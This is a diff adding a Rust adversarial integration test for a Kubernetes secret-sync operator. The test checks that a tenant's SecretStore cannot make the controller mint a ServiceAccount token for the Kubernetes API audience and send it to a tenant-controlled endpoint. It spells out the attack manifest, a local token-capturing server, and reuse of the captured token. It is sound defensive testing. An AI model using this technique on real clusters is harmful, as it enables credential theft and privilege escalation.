@@ -1,0 +1,131 @@
+//! Adversarial: a namespaced SecretStore makes the controller mint Kubernetes API credentials for any
+//! ServiceAccount of its namespace and send them to an endpoint the tenant controls.
+
+mod common;
+
+use std::io::{Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use common::operator::Operator;
+use common::{apply, wait_for};
+use k8s_openapi::api::authentication::v1::SelfSubjectReview;
+use kube::api::{Api, PostParams};
+
+/// Reads one HTTP request (headers + Content-Length body); returns the body.
+fn read_body(conn: &mut TcpStream) -> Vec<u8> {
+    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
+    let mut buf = Vec::new();
+    let mut chunk = [0u8; 8192];
+    loop {
+        if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
+            let head = String::from_utf8_lossy(&buf[..end]).to_string();
+            let len = head
+                .lines()
+                .find_map(|l| {
+                    let (k, v) = l.split_once(':')?;
+                    k.eq_ignore_ascii_case("content-length")
+                        .then(|| v.trim().parse::<usize>().ok())?
+                })
+                .unwrap_or(0);
+            while buf.len() < end + 4 + len {
+                match conn.read(&mut chunk) {
+                    Ok(0) | Err(_) => break,
+                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
+                }
+            }
+            return buf[end + 4..].to_vec();
+        }
+        match conn.read(&mut chunk) {
+            Ok(0) | Err(_) => return Vec::new(),
+            Ok(n) => buf.extend_from_slice(&chunk[..n]),
+        }
+    }
+}
+
+/// The tenant's "STS": records every request body and answers 500.
+fn capturing_server(bodies: Arc<Mutex<Vec<String>>>) -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("binding a local port");
+    let addr = listener.local_addr().expect("local address");
+    std::thread::spawn(move || {
+        for mut conn in listener.incoming().flatten() {
+            let body = read_body(&mut conn);
+            bodies
+                .lock()
+                .unwrap_or_else(|p| p.into_inner())
+                .push(String::from_utf8_lossy(&body).to_string());
+            let _ = write!(
+                conn,
+                "HTTP/1.1 500 Internal Server Error\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
+            );
+        }
+    });
+    format!("http://{addr}")
+}
+
+/// Invariants 3 and 9 (isolation): a namespaced store's `auth.serviceAccountRef` takes any
+/// ServiceAccount of the namespace and any `audiences` the tenant writes, and the token goes to the
+/// store's `endpoint` (STS uses it too). A tenant who may only write SecretStores asks for the
+/// API server's audience and receives, at their own HTTP server, a token that authenticates to the
+/// Kubernetes API as that ServiceAccount (e.g. a CI deployer's). The controller becomes a token
+/// minting service (it needs `serviceaccounts/token` create for IRSA; the tenant does not).
+#[tokio::test]
+async fn a_tenant_endpoint_never_receives_a_token_valid_for_the_kubernetes_api() {
+    let (client, ns) = common::setup("adv-sa-token").await;
+    let bodies = Arc::new(Mutex::new(Vec::new()));
+    let endpoint = capturing_server(bodies.clone());
+    let _op = Operator::start(&ns).await;
+    let audience = "https://kubernetes.default.svc.cluster.local";
+    apply(
+        &client,
+        &ns,
+        &format!(
+            "apiVersion: v1\nkind: ServiceAccount\nmetadata: {{ name: deployer }}\n---\n\
+             apiVersion: secretsync.io/v1alpha1\nkind: SecretStore\nmetadata: {{ name: evil }}\nspec:\n  aws:\n    region: us-east-1\n    endpoint: \"{endpoint}\"\n    role: arn:aws:iam::123456789012:role/anything\n    auth: {{ serviceAccountRef: {{ name: deployer, audiences: [\"{audience}\"] }} }}\n---\n{}",
+            common::single_key_es("x", "evil", "1h", "x", "")
+        ),
+    )
+    .await;
+
+    let token = wait_for(
+        "a web identity token at the tenant's endpoint",
+        Duration::from_secs(40),
+        || {
+            let bodies = bodies.clone();
+            async move {
+                let all = bodies.lock().unwrap_or_else(|p| p.into_inner()).clone();
+                all.iter().find_map(|b| {
+                    b.split('&')
+                        .find_map(|kv| kv.strip_prefix("WebIdentityToken="))
+                        .map(String::from)
+                })
+            }
+        },
+    )
+    .await;
+
+    // Use the captured token against the API server.
+    let mut config = kube::Config::infer().await.expect("kubeconfig");
+    config.auth_info = kube::config::AuthInfo {
+        token: Some(token.clone().into()),
+        ..Default::default()
+    };
+    let as_sa = kube::Client::try_from(config).expect("client with the captured token");
+    let review: Api<SelfSubjectReview> = Api::all(as_sa);
+    let who = review
+        .create(&PostParams::default(), &SelfSubjectReview::default())
+        .await;
+    if let Ok(r) = &who {
+        let user = r
+            .status
+            .as_ref()
+            .and_then(|s| s.user_info.as_ref())
+            .and_then(|u| u.username.clone())
+            .unwrap_or_default();
+        panic!(
+            "the tenant's endpoint received a token the Kubernetes API accepts, authenticating as {user:?}"
+        );
+    }
+    common::delete_namespace(&client, &ns).await;
+}
